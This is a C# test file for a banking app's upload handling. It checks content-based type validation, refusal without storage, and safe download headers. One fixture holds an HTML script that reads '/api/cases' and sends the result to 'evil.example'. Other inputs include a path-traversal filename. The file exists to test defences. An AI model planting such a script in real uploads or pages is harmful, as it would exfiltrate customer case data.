using System.Net;
using System.Net.Http.Json;
using System.Runtime.Versioning;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Shouldly;
using VirtualBranch.Engine.Integrity;
using VirtualBranch.Tests.Support;

namespace VirtualBranch.Tests.Banking;

/// <summary>
/// A file is what its bytes are: uploads are checked by content against the claimed type and the kind's allow-list,
/// refusals store nothing and append nothing, and downloads carry our name, nosniff and a sandbox.
/// </summary>
public sealed class UploadContentTests(HostFixture host) : IClassFixture<HostFixture>
{
    private static readonly object Loan = new { customerName = "张三", idNumber = "11010519491231002X", mobile = "13800138000", loanAmount = 500000, termMonths = 36 };
    private static readonly byte[] Html = Encoding.UTF8.GetBytes("<html><body><script>fetch('/api/cases').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script></body></html>");

    private DirectoryEvidenceStore Store => (DirectoryEvidenceStore)host.Services.GetRequiredService<IEvidenceStore>();

    private async Task<ScenarioDriver> AtDocumentsAsync()
    {
        var driver = await ScenarioDriver.OpenAsync(host, "loan-face-signing", Loan);
        await driver.RunToEndAsync(stopBeforeStep: "documents");
        return driver;
    }

    private async Task<JsonElement> RefusedAsync(ScenarioDriver driver, string kind, byte[] bytes, string claimed, string fileName)
    {
        var before = await StreamSnapshot.Of(host.Database, driver.CaseId);
        var problem = await (await driver.UploadAsync(driver.Customer, kind, bytes, claimed, fileName)).Problem(HttpStatusCode.BadRequest);
        (await StreamSnapshot.Of(host.Database, driver.CaseId)).ShouldBe(before, "a refused upload appends nothing");
        (await Store.ExistsAsync(Convert.ToHexStringLower(SHA256.HashData(bytes)), TestContext.Current.CancellationToken)).ShouldBeFalse("a refused upload stores nothing");
        return problem.GetProperty("errors").EnumerateArray().Single();
    }

    [Fact]
    public async Task html_uploaded_as_a_jpeg_is_refused_naming_the_file_what_was_claimed_and_what_was_found()
    {
        var driver = await AtDocumentsAsync();
        var error = await RefusedAsync(driver, "id-card", Html, "image/jpeg", "id.jpg");
        error.GetProperty("path").GetString().ShouldBe("/file");
        error.GetProperty("message").GetString().ShouldBe(
            "Sent as image/jpeg, but the content is not a file we can check (found none of image/jpeg, image/png, application/pdf, video/webm by its first bytes).");
    }

    [Fact]
    public async Task a_pdf_sent_as_a_jpeg_is_refused_even_though_the_kind_accepts_pdf()
    {
        var driver = await AtDocumentsAsync();
        var error = await RefusedAsync(driver, "income-proof", TestMedia.Pdf("salary"), "image/jpeg", "salary.jpg");
        error.GetProperty("path").GetString().ShouldBe("/file");
        error.GetProperty("message").GetString().ShouldBe("Sent as image/jpeg, but the content is a PDF document (application/pdf).");
    }

    [Fact]
    public async Task a_checked_type_the_kind_does_not_accept_is_refused()
    {
        var driver = await AtDocumentsAsync();
        var error = await RefusedAsync(driver, "income-proof", TestMedia.Webm(1), "video/webm", "salary.webm");
        error.GetProperty("path").GetString().ShouldBe("/file");
        error.GetProperty("message").GetString()!.ShouldContain("must be application/pdf or image/jpeg or image/png; this file's content is video/webm");
    }

    [Fact]
    [UnsupportedOSPlatform("windows")] // on-disk Unix modes
    public async Task a_real_jpeg_and_png_are_accepted_stored_owner_only_and_served_under_our_name_with_nosniff_and_a_sandbox()
    {
        var driver = await AtDocumentsAsync();
        var jpeg = TestMedia.Jpeg(1);
        var card = await driver.UploadAsync(driver.Customer, "id-card", jpeg, "image/jpeg", "../../index.html");
        card.StatusCode.ShouldBe(HttpStatusCode.Created, await card.Content.ReadAsStringAsync());
        var receipt = await card.Content.ReadFromJsonAsync<JsonElement>();
        receipt.GetProperty("mediaType").GetString().ShouldBe("image/jpeg");
        var png = TestMedia.Png(11);
        var income = await driver.UploadAsync(driver.Customer, "income-proof", png, "application/octet-stream", "salary.exe");
        income.StatusCode.ShouldBe(HttpStatusCode.Created, await income.Content.ReadAsStringAsync());
        (await income.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("mediaType").GetString().ShouldBe("image/png", "an undeclared type is what the content is");

        var sha = receipt.GetProperty("sha256").GetString()!;
        var served = await driver.Teller.GetAsync($"/api/documents/{receipt.GetProperty("documentId").GetGuid()}", TestContext.Current.CancellationToken);
        await ShouldBeSafeAsync(served, jpeg, "image/jpeg", $"id-card-{sha[..12]}.jpg");
        var pngSha = Convert.ToHexStringLower(SHA256.HashData(png));
        await ShouldBeSafeAsync(await driver.Teller.GetAsync($"/api/cases/{driver.CaseId}/evidence/{pngSha}", TestContext.Current.CancellationToken),
            png, "image/png", $"income-proof-{pngSha[..12]}.png");

        // Kept sealed under the case's key: nothing of the picture is in the file, and only the service's account reads it.
        var kept = Store.PathOf(await SealedCopies.NameAsync(host.Database, driver.CaseId, sha));
        var stored = await File.ReadAllBytesAsync(kept, TestContext.Current.CancellationToken);
        stored.AsSpan().IndexOf(jpeg.AsSpan(0, 64)).ShouldBe(-1, "the stored file is ciphertext");
        stored.Length.ShouldBeGreaterThan(jpeg.Length);
        File.GetUnixFileMode(kept).ShouldBe(UnixFileMode.UserRead, "evidence is 0400: the owner reads it, nobody writes it");
        File.GetUnixFileMode(Path.GetDirectoryName(kept)!).ShouldBe(PrivateFiles.OwnerOnlyFolder);
        File.GetUnixFileMode(Store.Root).ShouldBe(PrivateFiles.OwnerOnlyFolder);
    }

    [Fact]
    public async Task a_sealed_recording_is_served_under_our_name_with_nosniff_and_a_sandbox()
    {
        var driver = await ScenarioDriver.OpenAsync(host, "password-reset", new { customerName = "张三", idNumber = "11010519491231002X", mobile = "13800138000" });
        await driver.RunToEndAsync();
        var supervisor = await host.ClientFor("supervisor");
        var sha = Convert.ToHexStringLower(SHA256.HashData(driver.Recording));
        await ShouldBeSafeAsync(await supervisor.GetAsync($"/api/recordings/{driver.RecordingId}", TestContext.Current.CancellationToken),
            driver.Recording, "video/webm", $"recording-{sha[..12]}.webm");
    }

    private static async Task ShouldBeSafeAsync(HttpResponseMessage response, byte[] content, string mediaType, string fileName)
    {
        response.StatusCode.ShouldBe(HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        response.Headers.GetValues("X-Content-Type-Options").ShouldBe(["nosniff"]);
        response.Headers.GetValues("Content-Security-Policy").ShouldBe(["sandbox"]);
        response.Content.Headers.ContentType!.MediaType.ShouldBe(mediaType);
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        response.Content.Headers.ContentDisposition.FileName.ShouldBe(fileName);
        (await response.Content.ReadAsByteArrayAsync()).ShouldBe(content);
    }
}
